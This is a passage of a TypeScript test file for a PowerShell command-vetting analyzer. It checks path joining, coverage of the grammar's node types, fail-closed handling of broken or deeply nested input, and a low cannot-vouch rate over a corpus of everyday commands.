  it('joins locations and folds ..', () => {
    expect(joinPath('C:\\a\\b', '..\\c')).toBe('C:\\a\\c');
    expect(joinPath('/home/u', '../v/./w')).toBe('/home/v/w');
    expect(joinPath(null, 'x')).toBeNull();
    expect(joinPath(null, 'D:\\x')).toBe('D:\\x');
    expect(joinPath('C:\\a', 'Env:')).toBe('Env:');
  });
});

describe('grammar coverage', () => {
  it('handles or floors every named node type of tree-sitter-powershell', () => {
    const types = JSON.parse(readFileSync(createRequire(import.meta.url).resolve('tree-sitter-powershell/src/node-types.json'), 'utf8')) as { type: string; named: boolean }[];
    const unhandled = types.filter((t) => t.named && !NODE_HANDLING.has(t.type)).map((t) => t.type);
    expect(unhandled).toEqual([]);
  });

  it('never throws and fails closed on broken input', () => {
    for (const text of ['&', '& (', '@(', '"unterminated', '{{{{', '$(', 'iex(', '`', '--%', '| a', ')(', '[', '[x]::']) {
      const a = run(text);
      expect(floors(a), text).not.toContain('vouch.internal-error');
      // Broken text is a parse error, whatever else it may be.
      expect(floors(a), text).toContain('vouch.parse-error');
    }
  });

  it('follows calls that fan out only so far, then cannot vouch', () => {
    const defs = ['function f0 { a }'];
    for (let i = 1; i < 8; i++) defs.push(`function f${i} { ${`f${i - 1}; `.repeat(10)}}`);
    const a = run(`${defs.join('; ')}; f7`);
    expect(floors(a)).toContain('vouch.limit');
    expect(a.segments.length).toBeLessThan(20_000);
  });

  it('stops at a nesting limit instead of overflowing', () => {
    const deep = `${'('.repeat(2000)}a${')'.repeat(2000)}`;
    const a = run(deep);
    expect(floors(a)).not.toContain('vouch.internal-error');
    expect(floors(a)).toContain('vouch.limit');
  });
});

const { path: TLDR, missing: tldrMissing } = sharedCorpus('tldr-powershell.txt');

describeWhen('tldr-powershell corpus', tldrMissing, () => {
  it('analyses every line without throwing, with under 5% cannot vouch', () => {
    const lines = readFileSync(TLDR, 'utf8')
      .split('\n')
      .filter((l) => l.trim() !== '');
    const denied = lines.filter((command) => run(command).findings.some((f) => f.kind === 'cannot-vouch'));
    expect(denied.length / lines.length).toBeLessThan(0.05);
    expect(denied.filter((l) => !run(l).findings.some((f) => f.rule === 'vouch.parse-error'))).toEqual([]);
  });
});
